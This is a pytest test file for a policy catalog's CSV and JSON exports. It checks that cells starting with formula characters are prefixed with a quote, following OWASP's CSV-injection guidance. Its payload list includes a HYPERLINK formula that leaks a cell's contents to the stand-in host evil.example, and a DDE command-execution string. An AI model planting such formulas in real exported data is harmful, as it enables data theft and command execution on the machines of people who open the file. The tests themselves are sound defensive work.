"""comparison.csv is safe to open in a spreadsheet; policies.json keeps the exact text.

OWASP's CSV-injection guidance: a cell that starts with =, +, -, @, tab or
carriage return (here also line feed, full-width forms, and any of these after
leading spaces) is prefixed with a single quote, so the spreadsheet shows it
as text. Every data field that reaches the CSV is tried with several payloads.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import edit

from policykit import load_catalog
from policykit.render.exports import comparison_csv, policies_json, safe_cell

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0@x",
    "\uff1d1+1",
    "\uff0bx",
]
SAFE = ["Plain text.", "a=b", "1+1", "Email me @ home", "x - y"]

# (file, text to replace, template with {value}) for each data field that is a CSV cell.
FIELDS = {
    "position summary": ("institutions/alpha.yaml", "    summary: Only with the Head's written permission.", "    summary: {value}"),
    "topic title": ("topics.yaml", "    title: Text messages", "    title: {value}"),
    "group title": ("topics.yaml", "    title: Contact", "    title: {value}"),
}


def strings(value) -> set[str]:
    """Every string in a JSON value."""
    if isinstance(value, str):
        return {value}
    items = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return set().union(*(strings(v) for v in items)) if items else set()


def csv_and_json(data: Path, tmp_path: Path) -> tuple[list[list[str]], dict]:
    catalog = load_catalog(data, root=tmp_path)
    rows = list(csv.reader(io.StringIO(comparison_csv(catalog), newline="")))
    return rows, json.loads(policies_json(catalog))


@pytest.mark.parametrize("field", list(FIELDS))
@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(p) for p in PAYLOADS])
def test_a_formula_in_the_data_is_text_in_the_csv_and_exact_in_the_json(fixture_data: Path, tmp_path: Path, field: str, payload: str) -> None:
    file, old, new = FIELDS[field]
    edit(fixture_data / file, old, new.format(value=json.dumps(payload)))
    rows, exported = csv_and_json(fixture_data, tmp_path)
    cells = [cell for row in rows for cell in row]
    # The cell holds the text (as the loader keeps it: whitespace may be tidied), behind a quote.
    core = payload.strip(" \t\r\n\u00a0")
    assert [c for c in cells if core in c and c.startswith("'")], cells
    for cell in cells:  # no cell of the whole file can start a formula
        assert cell.lstrip(" \u00a0")[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"), cell
    if field != "group title":  # policies.json names groups by id
        assert [t for t in strings(exported) if core in t and not t.startswith("'")]


def test_policies_json_keeps_the_payload_exactly(fixture_data: Path, tmp_path: Path) -> None:
    payload = "=1+1"
    edit(fixture_data / "institutions/alpha.yaml", "    summary: Only with the Head's written permission.", f"    summary: {json.dumps(payload)}")
    _, exported = csv_and_json(fixture_data, tmp_path)
    assert payload in [p["summary"] for p in exported["positions"]]


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("payload", PAYLOADS + ["-", "@", "\n=x"], ids=repr)
def test_safe_cell_neutralises_every_formula_start(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload
